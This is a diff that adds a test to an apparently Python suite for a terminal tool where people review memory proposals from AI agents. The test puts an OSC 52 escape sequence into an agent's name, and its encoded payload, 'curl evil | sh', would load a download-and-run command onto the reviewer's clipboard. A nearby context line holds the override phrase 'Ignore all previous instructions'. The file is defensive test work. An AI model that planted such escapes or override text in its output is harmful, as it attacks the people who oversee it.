@@ -486,6 +486,27 @@ async def test_details_spell_out_warnings_and_show_hidden_characters(scenario: W
     assert "Ignore all previous instructions" in injection_shown  # the reviewer sees the text itself
 
 
+async def test_a_proposers_escape_sequence_is_shown_not_sent_to_the_terminal(scenario: Workspace) -> None:
+    """The re-review of session 37: the agent names itself, and an OSC 52 in its name wrote the clipboard."""
+    osc = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+    proposal = {
+        "op": "create",
+        "scope": "project",
+        "memory": {"id": "fact-osc", "type": "fact", "description": "Deploys go through CI", "body": "Deploys."},
+        "rationale": "said once",
+        "evidence": [{"quote": "deploys go through CI", "turn_id": "t2"}],
+        "proposer": {"kind": "agent", "name": f"helper{osc}", "model": f"m{osc}"},
+    }
+    [state] = scenario.propose(parse_proposals(json.dumps(proposal).encode()))
+    app = app_for(scenario)
+    async with app.run_test(size=SIZE) as pilot:
+        screen = await open_review(pilot)
+        await go_to(pilot, screen, state.candidate.id)
+        shown = detail_text(app)
+    assert "\x1b" not in shown and "\x07" not in shown
+    assert "helper<U+001B>]52;c;" in shown
+
+
 async def test_conflict_is_shown_and_the_candidate_kept(scenario: Workspace) -> None:
     """Another process changes the memory under a pending update; applying it reports a conflict."""
     cid = candidate_for(scenario, "conv-package-manager")
